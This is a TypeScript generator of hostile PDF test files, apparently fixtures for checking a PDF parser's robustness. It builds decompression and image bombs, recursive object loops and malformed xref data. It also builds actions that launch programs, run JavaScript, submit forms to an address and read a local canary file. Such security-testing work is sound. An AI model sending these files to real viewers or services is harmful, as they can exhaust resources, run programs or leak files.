import { deflateSync } from 'node:zlib';

import type { HostileFile, HostileMeans } from './hostile-files.ts';

const megabyte = 1024 ** 2;

/** A PDF of these objects, numbered from 1; the first is the catalogue. */
function pdfOf(objects: readonly (Buffer | string)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const places: number[] = [];
  let length = 9;
  const add = (bytes: Buffer): void => {
    parts.push(bytes);
    length += bytes.length;
  };
  for (const [index, object] of objects.entries()) {
    places.push(length);
    add(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object as Buffer), endObject]));
  }
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const count = objects.length + 1;
  add(
    Buffer.from(
      `xref\n0 ${count}\n0000000000 65535 f \n${table}trailer\n<< /Size ${count} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const endObject = Buffer.from('\nendobj\n');

function stream(dictionary: string, data: Buffer | string): Buffer {
  const bytes = Buffer.from(data as Buffer);
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

const catalogue = '<< /Type /Catalog /Pages 2 0 R >>';
const pages = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>';
const page = (more: string, box = '0 0 600 800'): string =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << ${more} >> >>`;
const font = '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>';
const say = (text: string): string => `BT /F 12 Tf 20 700 Td (${text}) Tj ET`;

function onePage(
  name: string,
  content: Buffer | string,
  { resources = font, box = '0 0 600 800', dictionary = '' } = {},
  ...more: readonly (Buffer | string)[]
): HostileFile {
  return pdf(name, [catalogue, pages, page(resources, box), stream(dictionary, content), ...more]);
}

function pdf(name: string, objects: readonly (Buffer | string)[], trailer?: string): HostileFile {
  return { name: `${name}.pdf`, mediaType: 'application/pdf', bytes: pdfOf(objects, trailer) };
}

/** PDF files that grow, loop, contradict themselves, or name files and addresses. */
export function hostilePdfs({ canary, address, withBombs }: HostileMeans): readonly HostileFile[] {
  const small = [...loops(), ...outside(canary, address), ...broken()];
  return withBombs ? [...small, ...streamBombs(), ...pictureBombs(), ...drawingBombs()] : small;
}

function streamBombs(): readonly HostileFile[] {
  const blank = Buffer.alloc(150 * megabyte, ' ');
  const twice = deflateSync(deflateSync(blank));
  const text = Buffer.from(say('text of a page without end '.repeat(40)).concat('\n').repeat(100_000));
  const groups = Array.from({ length: 9 }, (_, level) =>
    stream(
      `/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << ${font} /XObject << /X ${6 + level} 0 R >> >>`,
      level === 8 ? say('ha') : '/X Do '.repeat(10),
    ),
  );
  return [
    onePage('a hundred and fifty megabytes of blanks', deflateSync(blank), {
      dictionary: '/Filter /FlateDecode',
    }),
    onePage('packed twice', twice, { dictionary: '/Filter [/FlateDecode /FlateDecode]' }),
    onePage('packed by forty filters', twice, {
      dictionary: `/Filter [${'/FlateDecode '.repeat(40)}]`,
    }),
    onePage('a hundred megabytes of text', deflateSync(text), { dictionary: '/Filter /FlateDecode' }),
    onePage('forms that repeat forms', '/X Do', { resources: `${font} /XObject << /X 5 0 R >>` }, ...groups),
  ];
}

function pictureBombs(): readonly HostileFile[] {
  const image = (dictionary: string, data: Buffer): Buffer =>
    stream(`/Type /XObject /Subtype /Image ${dictionary}`, data);
  const resources = '/XObject << /I 5 0 R >>';
  const zeros = deflateSync(Buffer.alloc(100 * megabyte));
  const draw = '600 0 0 800 0 0 cm /I Do';
  const flate = '/ColorSpace /DeviceGray /Filter /FlateDecode';
  return [
    onePage(
      'a picture of sixty thousand pixels square',
      draw,
      { resources },
      image(`/Width 60000 /Height 60000 /BitsPerComponent 8 ${flate}`, zeros),
    ),
    onePage(
      'a picture of two billion pixels',
      draw,
      { resources },
      image(`/Width 2147483647 /Height 2147483647 /BitsPerComponent 16 ${flate}`, zeros),
    ),
    onePage(
      'a fax of sixty thousand pixels square',
      draw,
      { resources },
      image(
        '/Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>',
        Buffer.alloc(megabyte, 0xff),
      ),
    ),
    ...['JPXDecode', 'JBIG2Decode', 'DCTDecode', 'LZWDecode', 'RunLengthDecode'].map((filter) =>
      onePage(
        `noise for ${filter}`,
        draw,
        { resources },
        image(
          `/Width 9000 /Height 9000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /${filter}`,
          Buffer.from(Array.from({ length: 50_000 }, (_, at) => (at * 7_919) & 255)),
        ),
      ),
    ),
  ];
}

function drawingBombs(): readonly HostileFile[] {
  const program = `{ ${'2 copy mul exch '.repeat(2_000)} }`;
  const shading =
    '/Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 1 0 1] /Function 5 0 R >> >>';
  return [
    onePage('a page of a billion points', say('x'), { box: '0 0 1000000000 1000000000' }),
    onePage('a page without size', say('x'), { box: '0 0 0 0' }),
    onePage('ten million lines', deflateSync(Buffer.from('0 0 m 600 800 l S '.repeat(10_000_000))), {
      dictionary: '/Filter /FlateDecode',
    }),
    onePage(
      'half a million curves that are filled',
      'W* n 0 0 m '.concat('9 9 8 7 600 800 c '.repeat(500_000), 'f*'),
    ),
    onePage('deep states', 'q '.repeat(5 * megabyte)),
    onePage('deep arrays', '['.repeat(5 * megabyte)),
    onePage(
      'a shade that computes',
      '/S sh',
      { resources: shading },
      stream('/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]', program),
    ),
    onePage(
      'a pattern of tiny tiles',
      '/Pattern cs /P scn 0 0 600 800 re f',
      { resources: '/Pattern << /P 5 0 R >>' },
      stream(
        '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 600 800] /XStep 0.0001 /YStep 0.0001 /Resources << >>',
        '0 0 600 800 re f',
      ),
    ),
  ];
}

function loops(): readonly HostileFile[] {
  const itself = stream(
    '/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X 5 0 R >> >>',
    '/X Do /X Do',
  );
  const glyph =
    '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 65 /Widths [9] /Encoding << /Differences [65 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>';
  const kids = Array.from({ length: 20_000 }, () => '3 0 R').join(' ');
  const first = pdfOf([catalogue, pages, page(font), stream('', say('x'))]);
  return [
    pdf('pages that contain themselves', [catalogue, '<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>']),
    pdf('a billion pages', [catalogue, '<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>', page('')]),
    pdf('one page twenty thousand times', [
      catalogue,
      `<< /Type /Pages /Count 20000 /Kids [${kids}] >>`,
      page(font),
      stream('', say('the same words '.repeat(200))),
    ]),
    onePage('a form in itself', '/X Do', { resources: '/XObject << /X 5 0 R >>' }, itself),
    onePage(
      'a glyph in itself',
      'BT /F 9 Tf (A) Tj ET',
      { resources: '/Font << /F 5 0 R >>' },
      glyph,
      stream('', '9 0 d0 BT /F 9 Tf (AAAA) Tj ET'),
    ),
    pdf(
      'a table before itself',
      [catalogue, pages, page(font), stream('', say('x'))],
      `/Prev ${first.lastIndexOf('xref\n0')}`,
    ),
    onePage('a length that is itself', say('x'), { dictionary: '/Filter 4 0 R' }),
    pdf('references in a ring', ['2 0 R', '3 0 R', '1 0 R']),
  ];
}

function outside(canary: string, address: string): readonly HostileFile[] {
  const action = (kind: string): string => `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${kind} >> >>`;
  const with4 = (name: string, root: string): HostileFile =>
    pdf(name, [root, pages, page(font), stream('', say('seen'))]);
  return [
    onePage('content in another file', '', { dictionary: `/F (${canary}) /FFilter []` }),
    onePage(
      'a picture in another file',
      '600 0 0 800 0 0 cm /I Do',
      { resources: '/XObject << /I 5 0 R >>' },
      stream(
        `/Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${address}/picture) >>`,
        '',
      ),
    ),
    with4('opens an address', action(`/S /URI /URI (${address}/uri)`)),
    with4('starts a program', action('/S /Launch /F (/usr/bin/touch) /Win << /F (cmd.exe) >>')),
    with4('opens another file', action(`/S /GoToR /F (${canary}) /D [0 /Fit]`)),
    with4('sends a form', action(`/S /SubmitForm /F (${address}/form)`)),
    with4('runs a script', action(`/S /JavaScript /JS (app.launchURL\\("${address}/script"\\))`)),
    onePage(
      'a PostScript program',
      '/P Do',
      { resources: '/XObject << /P 5 0 R >>' },
      stream('/Subtype /PS', `(${canary}) (r) file 999 string readstring pop show`),
    ),
    onePage(
      'a font in another file',
      say('x'),
      {
        resources: '/Font << /F << /Type /Font /Subtype /TrueType /BaseFont /Own /FontDescriptor 5 0 R >> >>',
      },
      `<< /Type /FontDescriptor /FontName /Own /Flags 4 /FontFile2 << /F (${canary}) >> >>`,
    ),
  ];
}

function broken(): readonly HostileFile[] {
  const whole = pdfOf([catalogue, pages, page(font), stream('', say('x'))]);
  const changed = (name: string, from: string, to: string): HostileFile => ({
    name: `${name}.pdf`,
    mediaType: 'application/pdf',
    bytes: Buffer.from(whole.toString('latin1').replace(from, to), 'latin1'),
  });
  return [
    { name: 'half of it.pdf', mediaType: 'application/pdf', bytes: whole.subarray(0, whole.length / 2) },
    { name: 'only its mark.pdf', mediaType: 'application/pdf', bytes: Buffer.from('%PDF-1.7\n') },
    {
      name: 'its mark before ten megabytes.pdf',
      mediaType: 'application/pdf',
      bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(10 * megabyte, 'obj 1 0 ')]),
    },
    changed('a table somewhere else', 'startxref\n', 'startxref\n9999999999'),
    changed('no root', '/Root 1 0 R', '/Root 99 0 R'),
    changed('a negative length', '/Length ', '/Length -'),
    changed('a huge length', '/Length ', '/Length 99999999999'),
    changed('a billion objects', 'xref\n0 5', 'xref\n0 999999999'),
    pdf(
      'an unknown encryption',
      [catalogue, pages, page(font), stream('', say('x'))],
      '/Encrypt << /Filter /Unknown /V 99 >> /ID [(a) (b)]',
    ),
  ];
}
